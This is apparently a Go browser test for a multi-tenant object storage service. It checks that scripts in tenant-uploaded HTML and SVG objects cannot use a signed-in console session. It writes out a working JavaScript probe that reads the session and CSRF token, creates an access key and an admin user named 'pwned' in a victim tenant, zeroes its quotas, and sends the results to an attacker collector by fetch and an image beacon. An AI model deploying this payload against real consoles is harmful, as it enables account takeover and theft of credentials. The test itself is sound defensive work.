package browser_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/s3/types"
	"github.com/chromedp/chromedp"

	"github.com/ostiumio/ostium/internal/admin"
	"github.com/ostiumio/ostium/internal/node"
	"github.com/ostiumio/ostium/internal/node/nodetest"
	"github.com/ostiumio/ostium/test/browser/browsertest"
)

// probeScript is what a hostile tenant puts in its pages: read the
// console's session (relative to the page's origin, and at the
// console's own origin with credentials), take the CSRF token, create
// an access key for the victim tenant's admin, an admin user in it,
// set its quota to none, and send all it got to the collector.
func probeScript(consoleURL, collector string) string {
	return fmt.Sprintf(`(async () => {
  const CONSOLE = %q, COLLECTOR = %q;
  const out = {where: location.href, origin: String(self.origin), results: []};
  for (const base of ['/console/api', CONSOLE + '/console/api']) {
    const r = {base};
    const step = async (name, path, init) => {
      try {
        const res = await fetch(base + path, Object.assign({credentials: 'include'}, init || {}));
        r[name + '_status'] = res.status;
        r[name] = (await res.text()).slice(0, 2000);
      } catch (e) { r[name + '_error'] = String(e); }
    };
    await step('session', '/session');
    let csrf = '';
    try { csrf = JSON.parse(r.session).csrf_token || ''; } catch (e) {}
    r.csrf = csrf;
    const headers = {'Content-Type': 'application/json', 'X-CSRF-Token': csrf};
    await step('key', '/tenants/victim/users/bob/keys', {method: 'POST', headers});
    await step('user', '/tenants/victim/users', {method: 'POST', headers, body: JSON.stringify({name: 'pwned', role: 'admin', password: 'Pwned-password-123'})});
    await step('quota', '/tenants/victim/quotas', {method: 'PUT', headers, body: JSON.stringify({max_bytes: 0, max_objects: 0})});
    out.results.push(r);
  }
  const data = JSON.stringify(out);
  try { await fetch(COLLECTOR + '/collect', {method: 'POST', mode: 'no-cors', body: data}); } catch (e) {}
  new Image().src = COLLECTOR + '/img?d=' + encodeURIComponent(data.slice(0, 4000));
  document.title = 'probe done';
})();`, consoleURL, collector)
}

// collector is the attacker's HTTP server: it records every request it
// gets, and serves the probe from its own origin (/control.html), the
// control that proves the probe runs and reports.
type collector struct {
	*httptest.Server
	mu     sync.Mutex
	hits   []string // method, path and query, body
	script string   // what /control.js serves
}

func newCollector(t *testing.T) *collector {
	c := &collector{}
	c.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		if r.URL.Path == "/control.html" {
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, "<!doctype html><title>control</title><script src=\"/control.js\"></script>")
			return
		}
		if r.URL.Path == "/control.js" {
			w.Header().Set("Content-Type", "text/javascript")
			io.WriteString(w, c.script)
			return
		}
		if strings.HasPrefix(r.URL.Path, "/console/") || r.URL.Path == "/favicon.ico" {
			// The control's calls relative to its own origin, and the
			// browser's own: nothing.
			http.NotFound(w, r)
			return
		}
		q, _ := url.QueryUnescape(r.URL.RawQuery)
		c.mu.Lock()
		c.hits = append(c.hits, r.Method+" "+r.URL.Path+" "+q+" "+string(body))
		c.mu.Unlock()
	}))
	t.Cleanup(c.Close)
	return c
}

// the script /control.js serves; set before the control is opened.
func (c *collector) setScript(s string) { c.mu.Lock(); c.script = s; c.mu.Unlock() }

func (c *collector) all() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]string(nil), c.hits...)
}

// TestTenantObjectsCannotActAsConsole: a tenant (attacker) stores HTML
// and SVG pages whose scripts try to use the console's API with the
// visitor's session. Opened in Chromium signed in to the console as an
// admin of another tenant (victim) and as the provider's root, through
// a presigned URL, a response-content-type=text/html override of a
// text/plain object and public-read URLs, they get nothing: the
// collector receives no session, CSRF token or key, the victim's keys,
// users and quotas are as they were, and the audit log has no entry
// more. The control, the same probe served from the collector's own
// origin, runs and reports back that its console calls failed, so the
// probe does run where it may. With the sandbox turned off
// (sandbox_active_objects: false, the pages' scripts run as on AWS) the
// console's own origin alone keeps them out.
func TestTenantObjectsCannotActAsConsole(t *testing.T) {
	browsertest.Need(t)
	for _, sandbox := range []bool{true, false} {
		t.Run(fmt.Sprintf("sandbox=%v", sandbox), func(t *testing.T) { originAttack(t, sandbox) })
	}
}

func originAttack(t *testing.T, sandbox bool) {
	srv := nodetest.Start(t, nodetest.Options{Config: func(c *node.Config) {
		c.BucketDefaults = node.BucketDefaultsLegacy // public-read objects
		c.SandboxActiveObjects = &sandbox
	}})
	col := newCollector(t)
	script := probeScript(srv.Console.URL, col.URL)
	col.setScript(script)
	bg := context.Background()

	p := provider(t, srv)
	onboard(t, p, "attacker", "mallory", "provider-set-1")
	onboard(t, p, "victim", "bob", "provider-set-2")
	tenantUser(t, srv, "victim", "bob", "provider-set-2", "bob-own-password")
	p.must(200, "PUT", "/tenants/victim/quotas", map[string]any{"max_bytes": 1 << 30, "max_objects": 1000}, nil)
	var key struct {
		AccessKey string `json:"access_key"`
		SecretKey string `json:"secret_key"`
	}
	p.must(201, "POST", "/tenants/attacker/users/mallory/keys", nil, &key)
	mallory := s3As(srv, key.AccessKey, key.SecretKey)
	if _, err := mallory.CreateBucket(bg, &s3.CreateBucketInput{Bucket: aws.String("lures")}); err != nil {
		t.Fatal(err)
	}
	html := "<!doctype html><title>lure</title><p>hello</p><script>" + script + "</script>"
	svg := `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script><![CDATA[` + script + `]]></script></svg>`
	for _, o := range []struct {
		key, ct, body string
		public        bool
	}{
		{"lure.html", "text/html", html, false},
		{"lure.svg", "image/svg+xml", svg, false},
		{"note.txt", "text/plain", html, false},
		{"public.html", "text/html", html, true},
		{"public.svg", "image/svg+xml", svg, true},
	} {
		in := &s3.PutObjectInput{Bucket: aws.String("lures"), Key: aws.String(o.key), ContentType: aws.String(o.ct), Body: strings.NewReader(o.body)}
		if o.public {
			in.ACL = types.ObjectCannedACLPublicRead
		}
		if _, err := mallory.PutObject(bg, in); err != nil {
			t.Fatalf("put %s: %v", o.key, err)
		}
	}
	ps := s3.NewPresignClient(mallory)
	presign := func(key, ct string) string {
		in := &s3.GetObjectInput{Bucket: aws.String("lures"), Key: aws.String(key)}
		if ct != "" {
			in.ResponseContentType = aws.String(ct)
		}
		r, err := ps.PresignGetObject(bg, in)
		if err != nil {
			t.Fatal(err)
		}
		return r.URL
	}
	lures := []string{presign("lure.html", ""), presign("lure.svg", ""), presign("note.txt", "text/html"),
		srv.URL + "/lures/public.html", srv.URL + "/lures/public.svg"}

	// What the victims could lose, before.
	state := func() string {
		var b bytes.Buffer
		for _, path := range []string{"/tenants/victim/users", "/tenants/victim/users/bob/keys", "/tenants/victim/quotas", "/tenants/attacker/quotas"} {
			b.Write(p.must(200, "GET", path, nil, nil))
		}
		return b.String()
	}
	audited := func() int {
		var page admin.AuditPage
		if err := admin.NewClient(srv.URL, nodetest.AccessKey, nodetest.SecretKey, srv.Client()).Do(bg, "GET", "/audit?limit=1000", nil, &page); err != nil {
			t.Fatal(err)
		}
		n := 0
		for _, e := range page.Entries {
			if e.Action != "admin:ListAudit" { // this very call, if it is kept
				n++
			}
		}
		return n
	}

	for _, victim := range []struct {
		name   string
		signIn chromedp.Action[chromedp.Void]
		ready  string
	}{
		{"tenant victim's admin", browsertest.SignInPassword("victim", "bob", "bob-own-password"), "bucket-create"},
		{"provider's root", browsertest.SignInKey(nodetest.AccessKey, nodetest.SecretKey), "nav-tenants"},
	} {
		ctx := browsertest.New(t, 1024, 768)
		browsertest.Step(t, ctx, "sign in as the "+victim.name, 20*time.Second,
			browsertest.Open(srv.Console.URL, "/signin"), victim.signIn, chromedp.WaitVisible(browsertest.T(victim.ready)))
		// The session is live: the console's own page reads its token.
		csrf, err := chromedp.Run(ctx, chromedp.Evaluate[string](`fetch('/console/api/session').then(r => r.json()).then(s => s.csrf_token)`, chromedp.EvalAwaitPromise))
		if err != nil {
			t.Fatal(err)
		}
		if len(csrf) < 16 {
			t.Fatalf("%s: no session in the console: %q", victim.name, csrf)
		}
		before, auditBefore := state(), audited()
		for _, lure := range lures {
			browsertest.Step(t, ctx, "open "+lure, 20*time.Second, chromedp.Navigate(lure))
			// The probe, where it runs, ends within a second or two.
			if !sandbox {
				browsertest.Step(t, ctx, "the probe ends on "+lure, 20*time.Second, browsertest.Until(`document.title === 'probe done'`))
			} else {
				time.Sleep(2 * time.Second)
				if title := js[string](t, ctx, `document.title`); title == "probe done" {
					t.Errorf("%s: the probe ran on sandboxed %s", victim.name, lure)
				}
			}
		}
		// The control: the same probe from the collector's origin runs and
		// reports that its console calls failed.
		hitsBefore := len(col.all())
		browsertest.Step(t, ctx, "open the control", 20*time.Second, chromedp.Navigate(col.URL+"/control.html"),
			browsertest.Until(`document.title === 'probe done'`))
		deadline := time.Now().Add(10 * time.Second)
		var control []string
		for len(control) == 0 && time.Now().Before(deadline) {
			for _, h := range col.all()[hitsBefore:] {
				if strings.Contains(h, col.URL+"/control.html") && strings.HasPrefix(h, "POST /collect") {
					control = append(control, h)
				}
			}
			time.Sleep(100 * time.Millisecond)
		}
		t.Logf("%s: the control reported %.600s", victim.name, control)
		if len(control) == 0 {
			t.Fatalf("%s: the control never reported: the probe does not work, so this test proves nothing: %v", victim.name, col.all())
		}
		if !strings.Contains(control[0], "session_error") || !strings.Contains(control[0], `"csrf":""`) {
			t.Errorf("%s: the control's console calls did not fail as a foreign origin's must: %s", victim.name, control[0])
		}

		for _, h := range col.all() {
			for _, secret := range []string{csrf, "csrf_token", "secret_key", "access_key", `"identity"`, "pwned\"", `"tenant":"victim"`} {
				if strings.Contains(h, secret) {
					t.Errorf("%s: the collector got %q: %s", victim.name, secret, h)
				}
			}
			if sandbox && !strings.Contains(h, col.URL+"/control.html") {
				t.Errorf("%s: a sandboxed page reached the collector: %s", victim.name, h)
			}
		}
		if !sandbox {
			// Without the sandbox the pages did run, and reported: proof
			// that the console's origin alone kept them out.
			for _, lure := range lures {
				path := strings.SplitN(strings.TrimPrefix(lure, srv.URL), "?", 2)[0]
				found := false
				for _, h := range col.all() {
					found = found || strings.HasPrefix(h, "POST /collect") && strings.Contains(h, path)
				}
				if !found {
					t.Errorf("%s: unsandboxed %s never reported", victim.name, path)
				}
			}
		}
		if after := state(); after != before {
			t.Errorf("%s: the victims' users, keys or quotas changed:\nbefore %s\nafter  %s", victim.name, before, after)
		}
		if n := audited(); n != auditBefore {
			t.Errorf("%s: %d audit entries appeared", victim.name, n-auditBefore)
		}
	}
}
